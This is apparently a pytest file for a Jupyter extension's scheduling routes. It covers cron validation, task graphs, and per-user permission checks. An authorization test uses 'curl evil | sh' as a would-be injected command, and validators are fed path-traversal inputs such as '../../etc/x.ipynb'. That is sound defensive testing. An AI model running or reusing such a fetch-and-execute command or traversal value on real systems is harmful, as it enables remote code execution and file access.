"""The schedules routes, on a real Jupyter server, with several identities.

As in tests/server/test_server_permissions.py, the token authenticates and ``X-Test-User`` says
who calls (as JupyterHub's provider says who visits a shared server). alice's server:
she owns the schedules and may create them; the others hold what her grants give.
The scheduler process is not started here (its start is recorded instead): these tests
are about what the routes answer; tests/schedules/test_schedule_e2e.py fires schedules for real.
"""

from __future__ import annotations

import itertools
import json
import logging
import os
import signal
import threading
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from tornado.httpclient import HTTPClientError

from jupyter_air.identity import Identity
from jupyter_air.jobs.store import JobStore
from jupyter_air.schedules import schedule_file, scheduler
from jupyter_air.schedules.service import Schedules
from jupyter_air.server import schedules_handlers
from tests.server.test_server_permissions import jp_server_config  # noqa: F401 (several identities)
from tests.waits import until

NOTEBOOK = {
    "cells": [
        {
            "id": "c1",
            "cell_type": "code",
            "source": "print('hi')",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
    ],
    "metadata": {},
    "nbformat": 4,
    "nbformat_minor": 5,
}

CHAIN = """
name: nightly-train
schedule:
  quartz_cron_expression: "0 30 2 * * ?"
  timezone_id: Europe/Paris
permissions: ["bob:CAN_VIEW", "rita:CAN_MANAGE_RUN", "group:ml-team:CAN_VIEW", "max:CAN_MANAGE"]
tasks:
  - task_key: prep
    workload: {command: "python -c pass"}
  - task_key: train
    depends_on: [{task_key: prep}]
    experiment_name: nightly
    workload: {command: "python -c pass", compute: {nproc_per_node: 1}}
"""


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """The AIR_HOMEs the routes asked to start the scheduler of (none is started)."""
    calls: list[Path] = []
    monkeypatch.setattr(
        schedules_handlers, "ensure_scheduler", lambda store: calls.append(store.home)
    )
    return calls


@pytest.fixture(autouse=True)
def alices_server(started: list[Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The server (jp_server_config: several identities) is alice's."""
    monkeypatch.setenv("JUPYTERHUB_USER", "alice")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/mlflow.db")


@pytest.fixture
def notebook(jp_root_dir: Path) -> str:
    (jp_root_dir / "work").mkdir()
    (jp_root_dir / "work" / "train.ipynb").write_text(json.dumps(NOTEBOOK))
    return "work/train.ipynb"


async def call(
    jp_fetch: Any, who: str, method: str, *parts: str, body: Any = None, **params: Any
) -> Any:
    if body is None and method in ("POST", "PUT"):
        body = {}
    response = await jp_fetch(
        "jupyter-air",
        *parts,
        method=method,
        params=params or None,
        headers={"X-Test-User": who},
        body=json.dumps(body) if body is not None else None,
        allow_nonstandard_methods=True,
    )
    return json.loads(response.body) if response.body else None


async def refusal(jp_fetch: Any, who: str, method: str, *parts: str, **kw: Any) -> tuple[int, str]:
    with pytest.raises(HTTPClientError) as err:
        await call(jp_fetch, who, method, *parts, **kw)
    assert err.value.response is not None
    return err.value.code, json.loads(err.value.response.body)["error"]["message"]


async def chain(jp_fetch: Any) -> Any:
    return await call(jp_fetch, "alice", "POST", "schedules", body={"yaml": CHAIN})


async def test_the_form_schedules_a_notebook_and_the_list_shows_its_cron_in_words(
    jp_fetch: Any, notebook: str, started: list[Path], store: JobStore
) -> None:
    made = await call(
        jp_fetch,
        "alice",
        "POST",
        "schedules",
        body={
            "notebook": notebook,
            "cron": "30 2 * * *",
            "timezone": "Europe/Paris",
            "experiment": "nightly",
        },
    )
    assert made["name"] == "train"
    assert made["owner"] == "alice"
    assert made["level"] == "CAN_MANAGE"
    assert made["cron"]["kind"] == "unix"
    assert "02:30" in made["cron"]["words"]
    assert "Europe/Paris" in made["cron"]["words"]
    (task,) = made["tasks"]
    assert (task["task_key"], task["kind"], task["depends_on"]) == ("notebook", "notebook", [])
    assert task["notebook"].endswith("work/train.ipynb")
    times = [datetime.fromisoformat(t) for t in made["next_fire_times"]]
    assert len(times) == 3
    assert all((t.hour, t.minute) == (2, 30) for t in times)
    assert all(t.utcoffset() is not None for t in times)
    assert started == [store.home]  # the scheduler is asked to run
    listed = await call(jp_fetch, "alice", "GET", "schedules")
    assert [s["id"] for s in listed["schedules"]] == [made["id"]]
    one = await call(jp_fetch, "alice", "GET", "schedules", made["id"])
    assert one["name"] == "train"


async def test_the_form_makes_a_task_graph_around_the_notebook(
    jp_fetch: Any, notebook: str, jp_root_dir: Path
) -> None:
    (jp_root_dir / "reports").mkdir()
    (jp_root_dir / "reports" / "summary.ipynb").write_text(json.dumps(NOTEBOOK))
    tasks = [
        {"task_key": "prep", "workload": {"command": "python prep.py --api-key sk-123456"}},
        {
            "task_key": "train",
            "notebook": notebook,
            "parameters": {"nproc_per_node": 2},
            "depends_on": [{"task_key": "prep"}],
        },
        {
            "task_key": "report",
            "notebook": "reports/summary.ipynb",
            "depends_on": [{"task_key": "train"}],
            "run_if": "ALL_DONE",
        },
    ]
    made = await call(
        jp_fetch,
        "alice",
        "POST",
        "schedules",
        body={"notebook": notebook, "cron": "30 2 * * *", "tasks": tasks},
    )
    assert made["name"] == "train"
    assert [(t["task_key"], t["kind"], t["depends_on"], t["run_if"]) for t in made["tasks"]] == [
        ("prep", "workload", [], "ALL_SUCCESS"),
        ("train", "notebook", ["prep"], "ALL_SUCCESS"),
        ("report", "notebook", ["train"], "ALL_DONE"),
    ]
    assert made["tasks"][2]["notebook"].endswith("reports/summary.ipynb")
    assert made["tasks"][0]["command"] == "python prep.py --api-key ***"  # shown to viewers
    assert made["tasks"][1]["command"] is None
    schedule = Schedules(JobStore()).store.get(made["id"])
    assert schedule.spec.tasks[1].parameters == {"nproc_per_node": 2}


async def test_a_schedule_file_keeps_its_task_graph(jp_fetch: Any) -> None:
    made = await chain(jp_fetch)
    assert [(t["task_key"], t["depends_on"]) for t in made["tasks"]] == [
        ("prep", []),
        ("train", ["prep"]),
    ]
    assert made["tasks"][1]["experiment_name"] == "nightly"
    assert made["cron"] == {
        "expression": "0 30 2 * * ?",
        "kind": "quartz",
        "timezone": "Europe/Paris",
        "words": made["cron"]["words"],
    }
    assert made["last_runs"] == []


async def test_the_preview_says_the_cron_in_words_and_its_next_times(jp_fetch: Any) -> None:
    every_two = await call(
        jp_fetch, "alice", "GET", "schedules", "preview", cron="0/2 * * * * ?", count="4"
    )
    assert every_two["kind"] == "quartz"
    times = [datetime.fromisoformat(t) for t in every_two["next_fire_times"]]
    assert [(b - a).total_seconds() for a, b in itertools.pairwise(times)] == [2, 2, 2]
    nightly = await call(
        jp_fetch, "bob", "GET", "schedules", "preview", cron="30 2 * * *", timezone="Asia/Tokyo"
    )
    assert nightly["kind"] == "unix"
    assert all(t.endswith("+09:00") for t in nightly["next_fire_times"])


@pytest.mark.parametrize(
    ("params", "says"),
    [
        ({"cron": "61 * * * *"}, "minute"),
        ({"cron": "0 2 * * *", "timezone": "Mars/Olympus"}, "unknown time zone"),
        ({"cron": "0 2 * *"}, "5 fields"),
        ({"cron": "0 2 * * *", "count": "0"}, "'count'"),
    ],
)
async def test_a_bad_cron_in_the_preview_is_a_400_naming_the_field(
    jp_fetch: Any, params: dict[str, str], says: str
) -> None:
    status, message = await refusal(jp_fetch, "alice", "GET", "schedules", "preview", **params)
    assert status == 400
    assert says in message


BAD_FILES = [
    (CHAIN.replace('"0 30 2 * * ?"', '"0 61 2 * * ?"'), "minutes"),
    (CHAIN.replace("Europe/Paris", "Europe/Pariss"), "unknown time zone"),
    (CHAIN.replace("[{task_key: prep}]", "[{task_key: prepp}]"), "'prepp', which is no task"),
    (CHAIN.replace("task_key: train", "task_key: prep"), "used by more than one task"),
    (
        CHAIN.replace(
            "  - task_key: prep\n", "  - task_key: prep\n    depends_on: [{task_key: train}]\n"
        ),
        "cycle",
    ),
    (
        CHAIN.replace("timezone_id: Europe/Paris", "timezone_id: UTC\n  pause_status: PAUSE"),
        "pause_status",
    ),
    (
        CHAIN.replace('workload: {command: "python -c pass"}', "workload: {file: missing.yaml}", 1),
        "missing.yaml",
    ),
    ("name: [unclosed", "not valid YAML"),
    ("- a list", "a mapping"),
]


@pytest.mark.parametrize(("text", "says"), BAD_FILES)
async def test_a_bad_schedule_file_is_one_400_and_creates_nothing(
    jp_fetch: Any, text: str, says: str
) -> None:
    status, message = await refusal(jp_fetch, "alice", "POST", "schedules", body={"yaml": text})
    assert status == 400
    assert says in message
    assert "\n" not in message
    assert (await call(jp_fetch, "alice", "GET", "schedules"))["schedules"] == []


BAD_FORMS = [
    ({"notebook": "work/missing.ipynb", "cron": "0 2 * * *"}, "missing.ipynb"),
    ({"notebook": "../outside.ipynb", "cron": "0 2 * * *"}, "outside the server's root"),
    ({"notebook": "work/train.ipynb"}, "'cron' are needed"),
    ({"notebook": "work/train.ipynb", "cron": "0 2 * * *", "ranks": 2}, "unknown field 'ranks'"),
    ({"notebook": "work/train.ipynb", "cron": "0 2 * * *", "nproc_per_node": "2"}, "integer"),
    ({"notebook": "work/train.ipynb", "cron": "0 2 * * *", "name": "no spaces"}, "letters"),
    ({"notebook": "work/train.ipynb", "cron": "0 2 * * *", "tasks": []}, "list of tasks"),
    ({"notebook": "work/train.ipynb", "cron": "0 2 * * *", "tasks": ["prep"]}, "list of tasks"),
    (
        {"notebook": "work/train.ipynb", "cron": "0 2 * * *", "nproc_per_node": 2, "tasks": [{}]},
        "ranks are each task's",
    ),
    (
        {
            "notebook": "work/train.ipynb",
            "cron": "0 2 * * *",
            "tasks": [{"task_key": "t", "notebook": "../../etc/x.ipynb"}],
        },
        "outside the server's root",
    ),
    (
        {
            "notebook": "work/train.ipynb",
            "cron": "0 2 * * *",
            "tasks": [
                {
                    "task_key": "a",
                    "workload": {"command": "true"},
                    "depends_on": [{"task_key": "b"}],
                },
                {
                    "task_key": "b",
                    "workload": {"command": "true"},
                    "depends_on": [{"task_key": "a"}],
                },
            ],
        },
        "cycle",
    ),
]


@pytest.mark.parametrize(("form", "says"), BAD_FORMS)
async def test_a_bad_form_is_one_400_and_creates_nothing(
    jp_fetch: Any, notebook: str, form: dict[str, Any], says: str
) -> None:
    status, message = await refusal(jp_fetch, "alice", "POST", "schedules", body=form)
    assert status == 400
    assert says in message
    assert (await call(jp_fetch, "alice", "GET", "schedules"))["schedules"] == []


async def test_a_body_that_is_not_a_json_object_is_a_400(jp_fetch: Any) -> None:
    for body in ("not json", "[1, 2]"):
        with pytest.raises(HTTPClientError) as err:
            await jp_fetch(
                "jupyter-air",
                "schedules",
                method="POST",
                body=body,
                headers={"X-Test-User": "alice"},
            )
        assert err.value.code == 400


async def test_a_name_taken_is_a_409_and_keeps_the_first(jp_fetch: Any) -> None:
    first = await chain(jp_fetch)
    status, message = await refusal(jp_fetch, "alice", "POST", "schedules", body={"yaml": CHAIN})
    assert status == 409
    assert "nightly-train" in message
    listed = (await call(jp_fetch, "alice", "GET", "schedules"))["schedules"]
    assert [s["id"] for s in listed] == [first["id"]]


async def test_pause_and_resume_stop_and_restart_the_fire_times(jp_fetch: Any) -> None:
    made = await chain(jp_fetch)
    paused = await call(jp_fetch, "alice", "POST", "schedules", made["id"], "pause")
    assert (paused["pause_status"], paused["next_fire_times"]) == ("PAUSED", [])
    resumed = await call(jp_fetch, "alice", "POST", "schedules", made["id"], "resume")
    assert resumed["pause_status"] == "UNPAUSED"
    assert len(resumed["next_fire_times"]) == 3


async def test_run_now_records_a_run_that_the_runs_route_lists(
    jp_fetch: Any, started: list[Path]
) -> None:
    made = await chain(jp_fetch)
    run = await call(jp_fetch, "alice", "POST", "schedules", made["id"], "run-now")
    assert (run["schedule_id"], run["trigger"], run["status"]) == (made["id"], "RUN_NOW", "RUNNING")
    assert len(started) == 2  # at creation, and for the run
    runs = (await call(jp_fetch, "alice", "GET", "schedules", made["id"], "runs"))["runs"]
    assert [r["id"] for r in runs] == [run["id"]]
    shown = await call(jp_fetch, "alice", "GET", "schedules", made["id"])
    assert [r["id"] for r in shown["last_runs"]] == [run["id"]]


async def test_repairing_a_run_still_running_is_a_409_and_an_unknown_run_a_404(
    jp_fetch: Any,
) -> None:
    made = await chain(jp_fetch)
    run = await call(jp_fetch, "alice", "POST", "schedules", made["id"], "run-now")
    status, message = await refusal(
        jp_fetch, "alice", "POST", "schedule-runs", str(run["id"]), "repair"
    )
    assert (status, "still running" in message) == (409, True)
    status, _ = await refusal(jp_fetch, "alice", "POST", "schedule-runs", "99999", "repair")
    assert status == 404
    status, _ = await refusal(
        jp_fetch, "alice", "POST", "schedule-runs", str(run["id"]), "repair",
        body={"rerun_all_failed": "yes"},
    )  # fmt: skip
    assert status == 400


async def test_a_deleted_schedule_is_gone(jp_fetch: Any) -> None:
    made = await chain(jp_fetch)
    assert await call(jp_fetch, "alice", "DELETE", "schedules", made["id"]) is None
    status, _ = await refusal(jp_fetch, "alice", "GET", "schedules", made["id"])
    assert status == 404


async def test_the_owner_updates_what_a_schedule_runs(jp_fetch: Any) -> None:
    made = await chain(jp_fetch)
    changed = await call(
        jp_fetch,
        "alice",
        "PUT",
        "schedules",
        made["id"],
        body={"yaml": CHAIN.replace("0 30 2", "0 45 3")},
    )
    assert (changed["id"], changed["cron"]["expression"]) == (made["id"], "0 45 3 * * ?")


# -- who may do what ---------------------------------------------------------------------

#: Caller -> what alice's chain grants them (CHAIN's permissions).
LEVELS = {
    "mallory": None,
    "bob": "CAN_VIEW",
    "rita": "CAN_MANAGE_RUN",
    "max": "CAN_MANAGE",
    "alice": "CAN_MANAGE",
}


async def test_each_caller_sees_only_the_schedules_granted_to_them(jp_fetch: Any) -> None:
    made = await chain(jp_fetch)
    for who, level in LEVELS.items():
        listed = (await call(jp_fetch, who, "GET", "schedules"))["schedules"]
        assert [(s["id"], s["level"]) for s in listed] == ([(made["id"], level)] if level else [])
    group = await jp_fetch(
        "jupyter-air", "schedules", headers={"X-Test-User": "carol", "X-Test-Groups": "ml-team"}
    )
    assert [s["level"] for s in json.loads(group.body)["schedules"]] == ["CAN_VIEW"]
    status, message = await refusal(jp_fetch, "mallory", "GET", "schedules", made["id"])
    assert status == 403
    assert "its owner, alice, can grant it" in message
    status, _ = await refusal(jp_fetch, "mallory", "GET", "schedules", made["id"], "runs")
    assert status == 403


@pytest.mark.parametrize(
    ("who", "allowed"),
    [
        ("bob", set()),
        ("rita", {"run-now"}),
        ("max", {"run-now", "pause", "resume", "delete"}),
    ],
)
async def test_each_action_needs_its_level(jp_fetch: Any, who: str, allowed: set[str]) -> None:
    made = await chain(jp_fetch)
    for action in ("run-now", "pause", "resume"):
        if action in allowed:
            await call(jp_fetch, who, "POST", "schedules", made["id"], action)
        else:
            status, message = await refusal(jp_fetch, who, "POST", "schedules", made["id"], action)
            assert status == 403
            assert "CAN_MANAGE" in message
    if "delete" in allowed:
        await call(jp_fetch, who, "DELETE", "schedules", made["id"])
    else:
        status, _ = await refusal(jp_fetch, who, "DELETE", "schedules", made["id"])
        assert status == 403
        assert (await call(jp_fetch, "alice", "GET", "schedules", made["id"]))["id"] == made["id"]


async def test_only_the_servers_owner_makes_or_rewrites_what_runs_as_them(
    jp_fetch: Any, notebook: str, store: JobStore
) -> None:
    """A schedule runs commands as alice's OS user: a grantee with CAN_MANAGE may pause or
    delete it, never create one on her server or change its commands."""
    made = await chain(jp_fetch)
    evil = CHAIN.replace("python -c pass", "curl evil | sh").replace("nightly-train", "x")
    for who in ("max", "mallory"):
        status, message = await refusal(jp_fetch, who, "POST", "schedules", body={"yaml": evil})
        assert status == 403
        assert "only alice can" in message
        status, _ = await refusal(
            jp_fetch, who, "POST", "schedules", body={"notebook": notebook, "cron": "* * * * *"}
        )
        assert status == 403
        status, _ = await refusal(
            jp_fetch, who, "PUT", "schedules", made["id"], body={"yaml": evil}
        )
        assert status == 403
    kept = Schedules(store).store.get(made["id"])
    assert "curl" not in kept.spec.to_json()
    assert [s.name for s in Schedules(store).store.schedules()] == ["nightly-train"]


@pytest.mark.parametrize(
    ("method", "route"),
    [
        ("GET", "schedules"),
        ("POST", "schedules"),
        ("GET", "schedules/preview?cron=0+2+*+*+*"),
        ("GET", "schedules/abc"),
        ("PUT", "schedules/abc"),
        ("DELETE", "schedules/abc"),
        ("POST", "schedules/abc/pause"),
        ("POST", "schedules/abc/resume"),
        ("POST", "schedules/abc/run-now"),
        ("GET", "schedules/abc/runs"),
        ("POST", "schedule-runs/1/repair"),
        ("GET", "jobs/20261202-023000-a1b2c3/notebook"),
    ],
)
async def test_every_route_refuses_requests_without_a_token(
    jp_fetch: Any, method: str, route: str
) -> None:
    path, _, query = route.partition("?")
    with pytest.raises(HTTPClientError) as err:
        await jp_fetch(
            "jupyter-air",
            path,
            method=method,
            params=dict(p.split("=") for p in query.split("&")) if query else None,
            headers={"Authorization": ""},
            body=b"{}" if method in ("POST", "PUT") else None,
            allow_nonstandard_methods=True,
        )
    assert err.value.code == 403


async def test_a_schedule_id_that_is_not_one_is_a_404(jp_fetch: Any) -> None:
    status, _ = await refusal(jp_fetch, "alice", "GET", "schedules", "0123456789ab")
    assert status == 404


@pytest.mark.heavy
def test_the_server_restarts_a_killed_scheduler_and_stopping_it_leaves_the_scheduler(
    store: JobStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The backstop thread of the server extension: a scheduler killed with -9 is started
    again while a schedule exists; stopping the server's thread leaves the scheduler up."""
    spec = schedule_file.from_dict(
        {
            "name": "far",
            "schedule": {"cron": "0 2 1 1 *", "pause_status": "PAUSED"},
            "tasks": [{"task_key": "t", "workload": {"command": "true"}}],
        },
        tmp_path,
    )
    Schedules(store).create(Identity("alice"), spec, tracking_uri=f"sqlite:///{tmp_path}/m.db")
    monkeypatch.setattr(schedules_handlers, "ensure_scheduler", scheduler.ensure_scheduler)
    stop = threading.Event()
    thread = schedules_handlers.keep_scheduler_running(store, 0.2, stop, logging.getLogger("test"))
    try:

        def up(unlike: int | None = None) -> int:
            def new_pid() -> int | None:
                info = scheduler.running(store.home)
                return info.pid if info is not None and info.pid != unlike else None

            return until(new_pid, "a scheduler running", 30, step=0.05)

        first = up()
        os.kill(first, signal.SIGKILL)
        second = up(unlike=first)
        stop.set()
        thread.join(10)
        assert not thread.is_alive()
        assert scheduler.running(store.home) is not None
        assert scheduler.running(store.home).pid == second  # type: ignore[union-attr]
    finally:
        stop.set()
        scheduler.stop(store.home)


async def test_a_notebook_tasks_executed_notebook_is_served_to_its_jobs_viewers_alone(
    jp_fetch: Any, store: JobStore
) -> None:
    """The executed copy lies in alice's private job folder, outside the server's root:
    the route is the only way in, with the job's own check (CAN_VIEW, as its logs)."""
    from jupyter_air.jobs.permissions import parse_grant
    from jupyter_air.schedules import executed
    from tests.factories import job_spec

    task = store.create(
        job_spec("command", command=["true"]),
        owner="alice",
        grants=(parse_grant("bob:CAN_VIEW"),),
    )
    store.start_attempt(task.id, 1, None)
    cell = {**NOTEBOOK["cells"][0], "source": "token = 's3cret'"}  # type: ignore[index]
    secret = {**NOTEBOOK, "cells": [cell]}
    kept = executed.keep(store, task.id, 1, "report.ipynb", json.dumps(secret))
    assert kept.stat().st_mode & 0o077 == 0, "the owner's alone on disk"

    for who in ("alice", "bob"):
        doc = await call(jp_fetch, who, "GET", "jobs", task.id, "notebook")
        assert (doc["job_id"], doc["attempt"], doc["name"]) == (task.id, 1, "report.ipynb")
        assert doc["path"] == str(kept)
        assert doc["notebook"]["cells"][0]["source"] == "token = 's3cret'"

    # the attack: mallory, on alice's shared server, with no grant on the task's job
    with pytest.raises(HTTPClientError) as err:
        await call(jp_fetch, "mallory", "GET", "jobs", task.id, "notebook")
    assert err.value.code == 403
    assert err.value.response is not None
    assert b"s3cret" not in err.value.response.body
    assert b"report.ipynb" not in err.value.response.body

    # a job with no executed notebook, and one that is not a job, are 404s
    other = store.create(job_spec("command", command=["true"]), owner="alice")
    status, message = await refusal(jp_fetch, "alice", "GET", "jobs", other.id, "notebook")
    assert status == 404
    assert "kept no executed notebook" in message
    status, _ = await refusal(
        jp_fetch, "alice", "GET", "jobs", "20990101-000000-abcdef", "notebook"
    )
    assert status == 404
